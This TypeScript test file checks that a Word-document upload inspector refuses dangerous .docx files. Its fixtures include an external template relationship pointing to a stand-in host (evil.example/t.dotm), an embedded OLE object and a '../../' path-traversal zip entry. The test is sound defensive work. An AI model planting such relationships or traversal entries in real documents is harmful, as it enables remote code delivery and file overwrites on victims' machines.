import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { inspectWord } from './inspect-word.ts'

const TEMPLATE =
  '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const word = (parts: Record<string, string> = {}) => {
  const all = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...parts }
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)]))))
}

test('what opens something else is refused as an upload, whatever call brings it', () => {
  const refusal = (parts: Record<string, string>) => {
    try {
      inspectWord('docx', word(parts))
      return undefined
    } catch (error) {
      const { name, code } = error as { name: string; code: string }
      return [name, code]
    }
  }
  expect(refusal({})).toBeUndefined()
  expect(refusal({ 'word/_rels/settings.xml.rels': TEMPLATE })).toEqual(['UploadRefused', 'FILE_OUTSIDE'])
  expect(refusal({ 'word/embeddings/oleObject1.bin': 'x' })).toEqual(['UploadRefused', 'FILE_MACROS'])
  expect(refusal({ '../../evil.txt': 'x' })).toEqual(['UploadRefused', 'FILE_CONTENT'])
})
